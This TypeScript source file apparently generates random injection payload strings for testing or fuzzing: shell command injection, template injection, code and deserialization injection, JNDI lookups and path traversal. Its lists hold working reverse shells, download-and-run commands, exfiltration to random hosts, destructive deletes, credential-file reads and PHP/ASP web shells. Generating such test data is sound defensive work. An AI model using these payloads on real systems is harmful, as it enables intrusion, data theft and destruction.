import type { RandomSource } from "./random-source.ts";

const address = (r: RandomSource) => `${r.int(1, 254)}.${r.int(0, 254)}.${r.int(0, 254)}.${r.int(1, 254)}`;
const host = (r: RandomSource) => r.pick([`${r.name()}.com`, `${r.name()}.io`, `${r.name()}.net`, address(r)]);

function linux(r: RandomSource): string {
  const h = host(r);
  const p = r.int(80, 65535);
  return r.pick([
    "id", "whoami", "uname -a", "ls -la", "ls", "ls /", "cat /etc/passwd", "cat /etc/shadow", "cat /etc/hosts", "pwd", "ifconfig", "netstat -an", "ps aux", "env", "printenv", "w", "hostname", "sleep 5", `sleep ${r.int(1, 30)}`, `ping -c ${r.int(1, 9)} ${h}`, `ping -n 5 127.0.0.1`, `nslookup ${h}`, `curl http://${h}/x`, `curl ${h}`, `wget http://${h}/a.sh`, `wget ${h}:${p}/x -O /tmp/x`, `curl -d @/etc/passwd ${h}`, `nc -e /bin/sh ${h} ${p}`, `nc ${h} ${p}`, `bash -i >& /dev/tcp/${h}/${p} 0>&1`, `bash -c "id"`, `sh -c 'id'`, `/bin/bash`, `/bin/cat /etc/passwd`, `/usr/bin/id`, `rm -rf /`, `rm -rf /tmp/*`, `echo ${r.name()}`, `echo "x" > /tmp/${r.name()}`, `touch /tmp/${r.name()}`, `chmod 777 /tmp/x`, `chmod +x x.sh`, `python -c 'import os;os.system("id")'`, `python3 -c "import socket,subprocess,os"`, `perl -e 'print 1'`, `php -r 'system("id");'`, `ruby -rsocket -e 'exit'`, `find / -name "*.conf"`, `find / -perm -4000`, `grep -r password /var/www`, `head -n 5 /etc/passwd`, `tail /var/log/auth.log`, `awk 'BEGIN {system("/bin/sh")}'`, `mkfifo /tmp/f`, `telnet ${h} ${p}`, `dig ${h}`, `cat${"${IFS}"}/etc/passwd`, "cat$IFS/etc/passwd", "{cat,/etc/passwd}", "cat</etc/passwd", "c''at /etc/passwd", "c\\at /etc/passwd", `w'h'oami`, `/???/c?t /etc/passwd`, `echo d2hvYW1p | base64 -d | sh`, `echo $((${r.int(1, 99)}*${r.int(1, 99)}))`, `expr ${r.int(1, 99)} + 1`, "sudo -l", "crontab -l", "cat ~/.ssh/id_rsa", `scp /etc/passwd a@${h}:`, `xxd /etc/passwd`, `tar cf /dev/null x`, `vi /etc/passwd`, `less /etc/passwd`, `more /etc/group`, `sort /etc/passwd`, `socat tcp:${h}:${p} exec:sh`, `lua -e "os.execute('id')"`, `node -e 'require("child_process").exec("id")'`, `gcc -x c /dev/null`, "docker ps", "kill -9 -1", "reboot", `export RHOST="${h}"`, `openssl s_client -connect ${h}:${p}`, `which nc`, "getent passwd", "cp /etc/shadow /tmp", "busybox nc", `date`, `history`, `read a;echo $a`,
  ]);
}

function windows(r: RandomSource): string {
  const h = host(r);
  return r.pick([
    "dir", "dir c:\\", "ipconfig /all", "systeminfo", "whoami /all", "net user", "net localgroup Administrators x /ADD", "type C:\\WINNT\\repair\\SAM", `${r.name()}.exe -f c:\\windows\\x.dll`, `rundll32 ${r.name()}.dll,Run`, `net user ${r.name()} x /add`, "tasklist", "type c:\\windows\\win.ini", "type C:\\boot.ini", "cmd /c dir", "cmd.exe /c whoami", `powershell -c "iex(new-object net.webclient).downloadstring('http://${h}/a')"`, "powershell -enc SQBFAFgA", "powershell.exe -nop -w hidden", `certutil -urlcache -f http://${h}/a.exe a.exe`, `bitsadmin /transfer x http://${h}/a a`, `ping -n 5 ${h}`, `mshta http://${h}/a.hta`, `rundll32.exe javascript:"\\..\\mshtml"`, `regsvr32 /s /u /i:http://${h}/a.sct scrobj.dll`, `wmic process list`, `copy c:\\a \\\\${h}\\b`, "echo %USERNAME%", "set", "netsh firewall set opmode disable", "w^h^o^a^m^i", "timeout 5", `start calc.exe`, "reg query HKLM\\SAM", `del /f /q c:\\*`, `nslookup ${h}`, `schtasks /create /tn x /tr calc`, `sc query`, `cscript //e:jscript a.txt`, `msbuild.exe a.xml`,
  ]);
}

function commandForm(r: RandomSource): string {
  const command = r.chance(0.75) ? linux(r) : windows(r);
  const value = r.pick(["", "", "", "1", "x", "127.0.0.1", "a.txt", r.name(), "8.8.8.8", "test"]);
  const lead = r.pick([";", "; ", "|", "| ", "||", "|| ", "&", "& ", "&&", "&& ", "\n", "%0a", ";;", "';", '";', "');", "'|", '"|', "'&&", "|&", "\r\n", "' ; ", "';\n", "`;", ");"]);
  const end = r.pick(["", "", "", ";", "#", " #", "|", "&", "'", '"', ";#", "||", " ;", "||x", "&&", "%00", " || :", ";'"]);
  return r.pick([
    `${value}${lead}${command}${end}`, `${value}${lead}${command}${end}`, `${value}${lead}${command}${end}`, `${value}$(${command})`, `\`${command}\``, `${value}\`${command}\``, `$(${command})`, `"$(${command})"`, `'$(${command})'`, `<(${command})`, `>(${command})`, `() { :;}; ${command}`, `() { :; }; echo; ${command}`, command.length > 8 ? command : `;${command}`, `${value}${lead}${command}${lead}${linux(r)}`, `${command} | ${linux(r)}`, `\${${command}}`, `{{${value}${lead}${command}}}`, `@(${command})`, `;{${command.replaceAll(" ", ",")}}`, `${value}%7C${command.replaceAll(" ", "%20")}`,
  ]);
}

function templateForm(r: RandomSource): string {
  const a = r.int(2, 9999);
  const b = r.int(2, 99);
  const inner = r.pick([
    `${a}*${b}`, `${a}*'${b}'`, `${a}+${b}`, "config", "config.items()", "self", "self.__dict__", "''.__class__", "''.__class__.__mro__[1].__subclasses__()", "request.application.__globals__", "request['__class__']", "lipsum.__globals__['os'].popen('id').read()", "cycler.__init__.__globals__.os.popen('id').read()", "url_for.__globals__.os", "get_flashed_messages.__globals__", "''|attr('__class__')", "()|attr('__class__')|attr('__base__')", "_self.env.display('x')", "_self.env.registerUndefinedFilterCallback('exec')", "['id']|filter('system')", "['cat /etc/passwd']|map('passthru')|join", "app.request.server.all|join(',')", "dump(app)", "7*7|safe", "range.constructor('return global.process')()", "this.constructor.constructor('return process')()", "process.env", "process.mainModule.require('child_process').execSync('id')", "global.process.mainModule.require('os')", "root.process", "T(java.lang.Runtime).getRuntime().exec('id')", "T(java.lang.System).getenv()", "''.getClass().forName('java.lang.Runtime')", "''.class.forName('java.lang.Runtime').getMethod('exec')", "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())", "session.setAttribute('a',1)", "pageContext.request.getSession()", "applicationScope", "'freemarker.template.utility.Execute'?new()('id')", "product.getClass().getProtectionDomain()", "system('id')", "phpinfo()", "`id`", "File.open('/etc/passwd').read", "Dir.entries('/')", "IO.popen('id').readlines()", "settings.SECRET_KEY", "php}echo `id`;{/php", "$smarty.version", "Smarty_Internal_Write_File::writeFile('x')", "constructor.constructor('x')()", "#this.getClass()", "(#a=@java.lang.Runtime@getRuntime().exec('id'))", "@java.lang.Runtime@getRuntime()", "import os", "open('/etc/passwd').read()", "handler.settings", "debug", "joiner.__init__.__globals__", "x.__init__.__builtins__.exec('x')", "1/0", "'a'.toUpperCase()", "__import__('os').popen('id').read()", "namespace.__init__.__globals__.os", "dict(a=1)", "cat(7,7)", "user.password", "@(1+2)", "env",
  ]);
  return r.pick([
    `{{${inner}}}`, `{{${inner}}}`, `{{ ${inner} }}`, `\${${inner}}`, `\${${inner}}`, `#{${inner}}`, `*{${inner}}`, `<%= ${inner} %>`, `<%=${inner}%>`, `\${{${inner}}}`, `@(${a}*${b})`, `@{${inner}}`, `[[\${${inner}}]]`, `__\${${inner}}__::.x`, `%{${inner}}`, `{%print(${inner})%}`, `{% ${r.pick(["for", "if", "set", "import", "debug", "include"])} ${inner} %}`, `{${inner}}`, `{{{${inner}}}}`, `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}`, `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))`, `{{#with "s" as |string|}}{{/with}}`, `{php}echo ${inner};{/php}`, `{if ${inner}}{/if}`, `- ${"#{"}${inner}}`, `\${"freemarker.template.utility.Execute"?new()("id")}`, `{{=${inner}}}`, `~{::x(${inner})}`, `<%@ include file="x" %>`, `<% ${inner} %>`, `\\input{/etc/passwd}`, `\\immediate\\write18{id}`, `x{{${inner}}}y`, `user: \${${inner}}`,
  ]);
}

function codeForm(r: RandomSource): string {
  const h = host(r);
  const c = r.pick(["id", "whoami", "ls", "cat /etc/passwd", "dir", "$_GET['c']", "$_POST[0]", "$_REQUEST['cmd']"]);
  const q = r.pick(["'", '"']);
  return r.pick([
    `<?php system(${q}${c}${q}); ?>`, `<?php eval($_POST[${q}x${q}]);?>`, `<?=\`${c}\`?>`, `<?php echo shell_exec($_GET['cmd']); ?>`, `<?php @assert($_REQUEST['x']);`, `<?php passthru('${c}');`, `<? include($_GET['p']); ?>`, `<?php phpinfo(); ?>`, `<?php $f='sys'.'tem';$f('id');?>`, `<?php eval(base64_decode('ZWNobyAx'));`, `<%eval request("x")%>`, `<%@ Page Language="Jscript"%><%eval(Request.Item["x"])%>`, `<%Runtime.getRuntime().exec(request.getParameter("c"));%>`, `<% response.write(server.createobject("wscript.shell").exec("cmd")) %>`,
    `system(${q}${c}${q})`, `;system(${q}id${q});`, `${q};system(${q}id${q});//`, `exec(${q}${c}${q})`, `passthru(${q}id${q});`, `shell_exec(${q}ls${q})`, `popen(${q}id${q},${q}r${q})`, `proc_open(${q}id${q})`, `eval(${q}print(1)${q})`, `phpinfo()`, `;phpinfo();`, `${q}.phpinfo().${q}`, `\${@print(md5(1))}`, `\${@phpinfo()}`, `print(md5(${r.int(1, 9999)}))`, `;print(${r.int(1, 99)}*${r.int(1, 99)});`, `assert(${q}phpinfo()${q})`, `file_put_contents('x.php','<?php ?>')`, `include('http://${h}/x.txt')`, `require('child_process').exec('id')`, `require("child_process").execSync("id").toString()`, `process.mainModule.require('child_process')`, `global.process.mainModule.constructor._load('child_process')`, `__import__('os').system('id')`, `__import__("subprocess").check_output("id")`, `eval("__import__('os').popen('id').read()")`, `exec("import os;os.system('id')")`, `import os; os.system("id")`, `os.popen('id').read()`, `subprocess.call(["ls"])`, `open('/etc/passwd').read()`, `Runtime.getRuntime().exec("id")`, `new ProcessBuilder("id").start()`, `java.lang.Runtime.getRuntime().exec("calc")`, `Class.forName("java.lang.Runtime")`, `"".getClass().forName("javax.script.ScriptEngineManager")`, `new javax.script.ScriptEngineManager().getEngineByName("js").eval("1")`, `#{T(java.lang.Runtime).getRuntime()}`, `(#_memberAccess['allowStaticMethodAccess']=true)`, `%{(#a='x')(#b=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`, `${"#{"}\`id\`}`, `Kernel.exec("id")`, `IO.popen("id").read`, `eval("system('id')")`, `\`id\``, `open("|id")`, `%x(id)`, `Invoke-Expression (New-Object Net.WebClient).DownloadString('http://${h}')`, `iex "whoami"`, `Start-Process calc`, `WScript.Shell.Run("cmd")`, `new ActiveXObject("WScript.Shell").Run("calc")`, `os.execute("id")`, `io.popen("id")`, `preg_replace('/x/e','phpinfo()','x')`, `create_function('','phpinfo();')`, `call_user_func('system','id')`, `O:8:"stdClass":1:{s:1:"a";s:2:"id";}`, `{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect"}}`, `{"constructor":{"prototype":{"isAdmin":true}}}`, `__proto__[isAdmin]=true`, `constructor[prototype][x]=1`, `constructor.prototype.env=1`, `cos\nsystem\n(S'id'\ntR.`, `!!python/object/apply:os.system ["id"]`, `- !ruby/object:Gem::Installer`, `socket: !ruby/object:Gem::RequestSet`, `!!python/object/new:str`, `!!python/name:exec`, `!!javax.script.ScriptEngineManager [!!java.net.URL ["http://${h}"]]`, `$_GET['x']($_GET['y'])`, `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, `<xsl:value-of select="php:function('system','id')"/>`, `Process.Start("cmd.exe")`, `@java.lang.Runtime@getRuntime().exec('id')`,
  ]);
}

function lookupForm(r: RandomSource): string {
  const h = host(r);
  const protocol = r.pick(["ldap", "rmi", "dns", "ldaps", "iiop", "${lower:l}dap", "${::-l}dap"]);
  return r.pick([
    `\${jndi:${protocol}://${h}/a}`, `\${jndi:${protocol}://${h}:${r.int(80, 9999)}/${r.name()}}`, `\${\${lower:j}ndi:${protocol}://${h}/x}`, `\${\${::-j}\${::-n}\${::-d}\${::-i}:${protocol}://${h}/x}`, `\${\${env:X:-j}ndi:${protocol}://${h}}`, `\${j\${k8s:k5:-ND}i:ldap://${h}}`, `\${env:AWS_SECRET_ACCESS_KEY}`, `\${sys:java.version}`, `\${java:os}`, `\${jndi:${protocol}://\${env:USER}.${h}/a}`, `\${script:javascript:java.lang.Runtime.getRuntime().exec('id')}`, `\${url:UTF-8:http://${h}}`, `\${dns:address|${h}}`, `\${\${upper:j}ndi:ldap://${h}}`, `<!--#exec cmd="${r.pick(["id", "ls", "cat /etc/passwd"])}" -->`, `<!--#include virtual="/etc/passwd"-->`, `<!--#include file="../../x"-->`, `<!--#echo var="DATE_LOCAL"-->`, `<!--#printenv -->`, `<esi:include src="http://${h}/"/>`, `<!--#config errmsg="x"-->`,
    `../../../../etc/passwd`, `..\\..\\..\\windows\\win.ini`, `/etc/passwd`, `file:///etc/passwd`, `php://filter/convert.base64-encode/resource=index.php`, `php://input`, `expect://id`, `data://text/plain;base64,PD9waHA=`, `gopher://${h}:6379/_x`, `....//....//etc/passwd`, `/proc/self/environ`, `..%2f..%2fetc%2fpasswd`, `zip://x.zip#a.php`, `phar://x.phar`, `C:\\Windows\\System32\\drivers\\etc\\hosts`, `/var/log/apache2/access.log%00`, `dict://${h}:11211/stat`,
  ]);
}

/** A made-up command, template or code injection attempt. */
export function scriptPayload(r: RandomSource): string {
  const kind = r.next();
  if (kind < 0.42) return commandForm(r);
  if (kind < 0.66) return templateForm(r);
  return kind < 0.88 ? codeForm(r) : lookupForm(r);
}
